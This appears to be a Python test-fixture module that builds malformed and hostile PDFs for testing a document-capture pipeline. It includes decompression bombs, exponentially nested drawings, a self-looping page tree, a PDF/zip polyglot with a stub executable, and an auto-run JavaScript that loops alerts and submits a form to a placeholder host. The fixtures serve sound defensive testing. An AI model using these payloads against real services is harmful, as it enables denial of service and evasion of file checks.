"""PDFs that a stranger might bring, made when they are needed."""

import functools
import io
import zipfile
import zlib

import pikepdf
from pikepdf import Array, Dictionary, Name
from reportlab.pdfgen.canvas import Canvas

from tests.document_capture.strange_pictures import a_noisy_photograph

A4 = 595, 842


def a_pdf(
    pages: int = 1,
    *,
    size: tuple[float, float] = A4,
    user: str | None = None,
    script: bool = False,
) -> bytes:
    """Return empty pages; locked when ``user`` is a password, even an empty one."""
    with pikepdf.new() as pdf:
        for _ in range(pages):
            pdf.add_blank_page(page_size=size)
        if script:
            words = "while (true) app.alert('hello'); this.submitForm('http://x/')"
            pdf.Root.OpenAction = Dictionary(
                S=Name.JavaScript, JS=pikepdf.String(words)
            )
        return _saved(pdf, user)


def _saved(pdf: pikepdf.Pdf, user: str | None = None) -> bytes:
    out = io.BytesIO()
    lock = False if user is None else pikepdf.Encryption(user=user, owner="owner")
    pdf.save(out, encryption=lock)
    return out.getvalue()


def a_drawn_pdf(content: bytes) -> bytes:
    """Return one page of ``content``, compressed as it is."""
    with pikepdf.new() as pdf:
        page = pdf.add_blank_page(page_size=A4)
        page.Contents = pdf.make_stream(b"")
        page.Contents.write(zlib.compress(content, 9), filter=Name.FlateDecode)
        return _saved(pdf)


@functools.cache
def a_stream_bomb() -> bytes:
    """Return a page whose content is 400 MB of blanks, compressed twice."""
    packer = zlib.compressobj(9)
    blank = b" " * (1 << 20)
    inner = b"".join(packer.compress(blank) for _ in range(400)) + packer.flush()
    with pikepdf.new() as pdf:
        page = pdf.add_blank_page(page_size=A4)
        page.Contents = pdf.make_stream(b"")
        filters = Array([Name.FlateDecode, Name.FlateDecode])
        page.Contents.write(zlib.compress(inner, 9), filter=filters)
        return _saved(pdf)


@functools.cache
def a_picture_bomb(side: int = 30_000) -> bytes:
    """Return a page with a picture of ``side`` by ``side`` white pixels."""
    packer = zlib.compressobj(9)
    row = b"\xff" * side
    data = b"".join(packer.compress(row) for _ in range(side)) + packer.flush()
    with pikepdf.new() as pdf:
        picture = pdf.make_stream(b"")
        picture.write(data, filter=Name.FlateDecode)
        picture.Type, picture.Subtype = Name.XObject, Name.Image
        picture.Width, picture.Height = side, side
        picture.BitsPerComponent, picture.ColorSpace = 8, Name.DeviceGray
        page = pdf.add_blank_page(page_size=A4)
        page.Resources = Dictionary(XObject=Dictionary(I=picture))
        page.Contents = pdf.make_stream(b"q 595 0 0 842 0 0 cm /I Do Q")
        return _saved(pdf)


def a_tower(levels: int) -> bytes:
    """Return a page of groups in groups, each drawing the next ten times."""
    with pikepdf.new() as pdf:
        inner = pdf.make_stream(b"0 0 9 9 re f")
        _as_form(inner, Dictionary())
        for _ in range(levels):
            outer = pdf.make_stream(b"/N Do " * 10)
            _as_form(outer, Dictionary(XObject=Dictionary(N=inner)))
            inner = outer
        page = pdf.add_blank_page(page_size=A4)
        page.Resources = Dictionary(XObject=Dictionary(N=inner))
        page.Contents = pdf.make_stream(b"/N Do")
        return _saved(pdf)


def _as_form(stream: pikepdf.Stream, resources: Dictionary) -> None:
    stream.Type, stream.Subtype = Name.XObject, Name.Form
    stream.BBox, stream.Resources = Array([0, 0, 595, 842]), resources


def deep_brackets(levels: int) -> bytes:
    """Return a PDF whose catalogue holds lists in lists in lists."""
    nest = b"[" * levels + b"]" * levels
    return (
        b"%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R/Nest " + nest + b">>endobj\n"
        b"2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
        b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>endobj\n"
        b"trailer<</Root 1 0 R>>\n%%EOF"
    )


def a_loop() -> bytes:
    """Return a PDF whose list of pages contains itself."""
    return (
        b"%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
        b"2 0 obj<</Type/Pages/Kids[2 0 R 2 0 R]/Count 2>>endobj\n"
        b"trailer<</Root 1 0 R>>\n%%EOF"
    )


def a_slow_page() -> bytes:
    """Return a page of half a million long, transparent, dashed curves."""
    curve = b"0 0 m 9 800 500 9 595 842 c S\n"
    return a_drawn_pdf(b"[1 1] 0 d 40 w\n" + curve * 500_000)


def without_table(pdf: bytes) -> bytes:
    """Return ``pdf`` with a cross-reference table that points nowhere."""
    at = pdf.rindex(b"startxref")
    return pdf[:at] + b"startxref\n99999999\n%%EOF\n"


def with_archive(pdf: bytes) -> bytes:
    """Return a file that is this PDF, and also an archive with a program in it."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("program.exe", b"MZ" + bytes(100))
    return pdf + out.getvalue()


def scans(pages: int) -> bytes:
    """Return photographs of A4 at 300 dpi: the heaviest file that is honest."""
    with pikepdf.new() as pdf:
        picture = pdf.make_stream(a_noisy_photograph(2480, 3508))
        picture.Type, picture.Subtype = Name.XObject, Name.Image
        picture.Width, picture.Height = 2480, 3508
        picture.BitsPerComponent, picture.ColorSpace = 8, Name.DeviceRGB
        picture.Filter = Name.DCTDecode
        for _ in range(pages):
            page = pdf.add_blank_page(page_size=A4)
            page.Resources = Dictionary(XObject=Dictionary(I=picture))
            page.Contents = pdf.make_stream(b"q 595 0 0 842 0 0 cm /I Do Q")
        return _saved(pdf)


def a_scan(filter_name: str, data: bytes, bits: int = 8) -> bytes:
    """Return a page that is one grey picture of 1000 by 1000, packed as it is said."""
    with pikepdf.new() as pdf:
        picture = pdf.make_stream(b"")
        picture.write(data, filter=Name(filter_name))
        picture.Type, picture.Subtype = Name.XObject, Name.Image
        picture.Width = picture.Height = 1000
        picture.BitsPerComponent, picture.ColorSpace = bits, Name.DeviceGray
        page = pdf.add_blank_page(page_size=A4)
        page.Resources = Dictionary(XObject=Dictionary(I=picture))
        page.Contents = pdf.make_stream(b"q 595 0 0 842 0 0 cm /I Do Q")
        return _saved(pdf)


def a_blank_scan() -> bytes:
    """Return the empty back of a sheet, as a scanner makes it."""
    return a_scan("/FlateDecode", zlib.compress(b"\xff" * 1_000_000))


def a_filled_form() -> bytes:
    """Return a page with one field, in which something black was written."""
    out = io.BytesIO()
    canvas = Canvas(out, pagesize=A4)
    canvas.acroForm.textfield(
        name="capital", value="XXXXXXXX", x=100, y=700, width=300, height=60
    )
    canvas.showPage()
    canvas.save()
    return out.getvalue()
